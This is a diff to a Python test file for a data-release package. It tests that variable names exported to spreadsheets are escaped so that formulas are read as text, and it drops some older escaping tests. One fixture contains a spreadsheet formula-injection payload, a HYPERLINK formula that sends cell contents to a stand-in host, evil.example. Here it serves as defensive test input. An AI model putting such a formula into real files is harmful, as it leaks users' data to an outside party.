@@ -15,13 +15,7 @@ import typer
 from typer.testing import CliRunner
 
 from silomix.airlock import explain, read_contents, read_release, write_release
-from silomix.airlock.format import (
-    LARGEST_FILE,
-    MANIFEST,
-    MOST_LINES,
-    for_spreadsheet,
-    from_spreadsheet,
-)
+from silomix.airlock.format import LARGEST_FILE, MANIFEST, MOST_LINES
 from silomix.airlock.reading import _read_schema
 from silomix.airlock.writing import release_files
 from silomix.cli.release import inspect_command, release_command
@@ -126,7 +120,8 @@ class TestRoundTrip:
 
     def check_round_trip(self, folder, schema, seed):
         """Write a release with these names, and read the same back."""
-        local = clustered(np.random.default_rng(seed), [40, 30], (2, 2), draws=20)
+        sizes = tuple(schema.sizes.tolist())
+        local = clustered(np.random.default_rng(seed), [40, 30], sizes, draws=20)
         shard = Shard(schema, local.draws.shard.codes)
         local = replace(local, draws=replace(local.draws, shard=shard))
         study = make_study(schema, ROSTER, tier="draws")
@@ -140,7 +135,7 @@ class TestRoundTrip:
         self.check_round_trip(tmp_path / "r", schema, seed)
 
     def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
-        levels = ("+ve", "-1"), ("'=1+1", "+")
+        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]")
         link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
         self.check_round_trip(tmp_path / "r", schema, seed)
@@ -152,31 +147,10 @@ class TestRoundTrip:
             for cell in row
         }
         assert not any(cell.startswith(("=", "@", "+v")) for cell in cells)
-        assert {f"'{link}", f"'{link}=+ve", "'@SUM(1)", "'+ve", "-1", "''=1+1", "+"} <= cells
-
-    @pytest.mark.parametrize(
-        ("name", "written"),
-        [
-            ("=1+1", "'=1+1"),
-            (" =1+1", "' =1+1"),
-            ("\uff1d1", "'\uff1d1"),
-            ("-1+2", "'-1+2"),
-            ("--1", "'--1"),
-            ("-ve", "'-ve"),
-            ("+/-", "'+/-"),
-            ("'=1", "''=1"),
-            *((same, same) for same in ("-", "+", "-1", "+1.5", "-1,5", "-.5", "-1e-5", "-5%")),
-            *((same, same) for same in ("a", "1-2", "'a", "'-1", "a=b", "", "a@b", "- ")),
-        ],
-    )
-    def test_names_come_back_from_a_spreadsheet(self, name, written):
-        assert for_spreadsheet(name) == written
-        assert from_spreadsheet(written) == name
-        assert from_spreadsheet(for_spreadsheet(written)) == written
-
-    def test_names_of_earlier_releases_are_read_as_they_are(self):
-        assert from_spreadsheet("=1+1") == "=1+1"
-        assert from_spreadsheet("'tis") == "'tis"
+        assert not any(";=" in cell for cell in cells)
+        assert {"'@SUM(1)", "'+ve", "-1", "''=1+1", "+", "a;'=1+1", "(-2, -1]"} <= cells
+        written = f"'{link}"
+        assert {written, f"{written}=+ve", f"{written}=a;'=1+1"} <= cells
 
     def test_how_chains_agreed_and_whether_components_ran_out(self, tmp_path, summary):
         said = replace(summary.release.diagnostics, agreement=0.87, full=0.25)
